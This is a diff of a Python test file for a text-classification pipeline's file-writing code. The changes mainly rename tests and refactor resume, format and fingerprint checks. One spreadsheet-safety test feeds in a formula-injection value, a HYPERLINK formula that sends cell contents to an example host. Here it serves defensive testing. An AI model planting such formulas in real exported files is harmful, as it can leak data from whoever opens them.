@@ -1,4 +1,4 @@
-"""classify_file against the pipeline's own answers, interrupted at any byte, and beside what belongs to other runs."""
+"""classify_file: compared with the pipeline, interrupted at any byte, and beside other runs."""
 
 import copy
 import csv
@@ -14,7 +14,7 @@ from docsplit_hf import load_labeled_examples
 from docsplit_hf.classification import answer_files as row_files
 from docsplit_hf.classification import predict_file as classifying
 from docsplit_hf.classification.answer_files import read_rows
-from docsplit_hf.classification.predict_file import PredictionFiles, classify_file, look_through
+from docsplit_hf.classification.predict_file import PredictionFiles, check_files, classify_file
 from docsplit_hf.text.labels import labels_by_name
 
 BLOCK = 16
@@ -36,7 +36,7 @@ def pipe(make_tiny_config, tokenizer, texts):
 
 @pytest.fixture
 def new(texts, tmp_path):
-    """A file of a block and more, in which every tenth row has no text."""
+    """A file with more than a block of rows; every tenth row has no text."""
     rows = [{"nr": i, "body": f"{texts[i % 48]} {i}" if i % 10 else None} for i in range(BLOCK + 10)]
     (tmp_path / "new.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
     return tmp_path / "new.jsonl", rows
@@ -44,7 +44,7 @@ def new(texts, tmp_path):
 
 @pytest.fixture
 def classify(pipe, new, tmp_path, monkeypatch):
-    """Classifies the file, or is interrupted after all answers are kept; gives how many answers were resumed."""
+    """Classify the file, or stop after all answers are kept; returns the number of resumed answers."""
 
     def classify(name, column="body", interrupted=False, safe_csv=False, **options):
         files = PredictionFiles(new[0], tmp_path / name, column, safe_csv=safe_csv)
@@ -109,7 +109,8 @@ def test_labels_and_ids_are_the_characters_of_the_file(
     make_tiny_config, tokenizer, texts, tmp_path, labels, ids, ending, target
 ):
     rows = [{"id": ids[i], "text": texts[i], "label": labels[i % len(labels)]} for i in range(6)]
-    source, answers = tmp_path / f"labeled.{ending}", tmp_path / f"answers.{target}"
+    source = tmp_path / f"labeled.{ending}"
+    answers = tmp_path / f"answers.{target}"
     with source.open("w", encoding="utf-8", newline="") as file:
         if ending == "jsonl":
             file.writelines(json.dumps(row) + "\n" for row in rows)
@@ -129,8 +130,9 @@ def test_labels_and_ids_are_the_characters_of_the_file(
 
 
 @pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
-def test_interrupted_anywhere_it_gives_the_same_file(classify, tmp_path, ending):
-    whole, target = tmp_path / f"whole.{ending}", tmp_path / f"a.{ending}"
+def test_an_interrupted_run_gives_the_same_file(classify, tmp_path, ending):
+    whole = tmp_path / f"whole.{ending}"
+    target = tmp_path / f"a.{ending}"
     partial = tmp_path / f"a.{ending}.partial"
     classify(whole.name)
     classify(target.name, interrupted=True)
@@ -143,7 +145,7 @@ def test_interrupted_anywhere_it_gives_the_same_file(classify, tmp_path, ending)
         assert not partial.exists() and not list(tmp_path.glob("*.tmp"))
 
 
-def test_answers_that_are_safe_in_a_spreadsheet(classify, new, tmp_path):
+def test_answers_are_safe_in_spreadsheets(classify, new, tmp_path):
     source, rows = new
     formula = '=HYPERLINK("http://example.org/?" & A1)'
     source.write_text("".join(json.dumps({"nr": formula, "@": -1.5, "body": row["body"]}) + "\n" for row in rows))
@@ -161,34 +163,38 @@ def test_answers_that_are_safe_in_a_spreadsheet(classify, new, tmp_path):
 
 
 @pytest.mark.parametrize("change", ["input", "examples", "options", "columns", "more answers"])
-def test_what_belongs_to_another_run_is_not_used(pipe, classify, new, change, caplog, texts):
-    source, partial = new[0], new[0].with_name("a.csv.partial")
+def test_answers_of_another_run_are_ignored(pipe, classify, new, change, caplog, texts):
+    source = new[0]
+    partial = source.with_name("a.csv.partial")
     classify("a.csv", interrupted=True)
-    options, added, said = {}, [], "comes from another input, classifier or options: starting over"
+    column = "body"
+    max_length = None
+    added = []
+    message = "comes from another input, classifier or options: starting over"
     if change == "input":
         source.write_text(source.read_text() + '{"body": "One more."}')
     elif change == "examples":
         added = pipe.add_examples([texts[20]], ["odd"])
     elif change == "options":
-        options = {"max_length": 16}
+        max_length = 16
     elif change == "columns":
         source.write_text(source.read_text().replace('"body"', '"essay"'))
-        options = {"column": "essay"}
+        column = "essay"
     else:
         header, *answers = partial.read_bytes().splitlines(keepends=True)
         partial.write_bytes(header + b"".join(answers * 2))
-        said = "holds 48 answers, and there are 26 rows: starting over"
-    assert classify("a.csv", **options) == 0 and said in caplog.text
+        message = "holds 48 answers, and there are 26 rows: starting over"
+    assert classify("a.csv", column, max_length=max_length) == 0 and message in caplog.text
     pipe.remove_examples(added)
 
 
-def test_what_is_asked_for_is_written(pipe, new, tmp_path):
+def test_requested_columns_are_written(pipe, new, tmp_path):
     files = PredictionFiles(new[0], tmp_path / "a.jsonl", "body")
     classify_file(pipe, files, show_progress=False, return_read=True)
     assert {row["read"] for row in read(tmp_path / "a.jsonl") if row["body"]} == {1.0}
 
 
-def test_documents_and_what_was_fitted_are_part_of_the_classifier(pipe, texts, tmp_path):
+def test_the_fingerprint_covers_documents_and_fitted_experts(pipe, texts, tmp_path):
     fitted = copy.deepcopy(pipe)
     fitted.fit(show_progress=False)
     fingerprints = [classifying._fingerprint(fitted)]
@@ -204,7 +210,7 @@ def test_documents_and_what_was_fitted_are_part_of_the_classifier(pipe, texts, t
     assert classifying._fingerprint(fitted) != classifying._fingerprint(in_bfloat16)
 
 
-def test_the_answers_never_replace_a_file_unasked_nor_the_input_at_all(classify, tmp_path):
+def test_existing_files_are_replaced_only_on_request_and_the_input_never(classify, tmp_path):
     (tmp_path / "a.csv").write_text("mine")
     with pytest.raises(ValueError, match="a.csv is there already"):
         classify("a.csv")
@@ -215,7 +221,7 @@ def test_the_answers_never_replace_a_file_unasked_nor_the_input_at_all(classify,
     assert (tmp_path / "a.csv").read_text() == "mine"
 
 
-def test_defaults_of_the_pipeline_count_as_options(pipe, classify, tmp_path, monkeypatch):
+def test_defaults_of_the_pipeline_are_options(pipe, classify, tmp_path, monkeypatch):
     """They are part of what a run goes on from, and what they ask for is written."""
     classify("option.csv", return_neighbors=2, k=1)
     classify("plain.jsonl", interrupted=True)
@@ -245,16 +251,16 @@ def test_a_second_run_on_the_same_answers_is_refused(classify, new, tmp_path, mo
     assert len(read(tmp_path / "a.jsonl")) == len(new[1]) and not list(tmp_path.glob("*.partial"))
 
 
-def test_what_parquet_cannot_hold_is_found_before_anything_is_classified(tmp_path):
+def test_rows_that_parquet_cannot_hold_are_refused_before_classifying(tmp_path):
     rows = [{"text": "One.", "n": 1}, *[{"text": "Two."}] * BLOCK, {"text": "Three.", "n": "three"}]
     (tmp_path / "new.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
     with pytest.raises(ValueError, match="do not fit into Parquet"):
-        look_through(PredictionFiles(tmp_path / "new.jsonl", tmp_path / "a.parquet"))
-    assert look_through(PredictionFiles(tmp_path / "new.jsonl", tmp_path / "a.csv"))[1] == len(rows)
+        check_files(PredictionFiles(tmp_path / "new.jsonl", tmp_path / "a.parquet"))
+    assert check_files(PredictionFiles(tmp_path / "new.jsonl", tmp_path / "a.csv")).rows == len(rows)
 
 
 @pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
-def test_lone_surrogates_deep_in_a_row_do_not_stop_the_writing(pipe, tmp_path, ending):
+def test_lone_surrogates_in_nested_values_are_replaced(pipe, tmp_path, ending):
     (tmp_path / "new.jsonl").write_text(json.dumps({"text": "One.", "meta": {"\ud800": ["\udfff"]}}) + "\n")
     texts = PredictionFiles(tmp_path / "new.jsonl", tmp_path / f"a.{ending}")
     assert classify_file(pipe, texts, show_progress=False).rows == 1
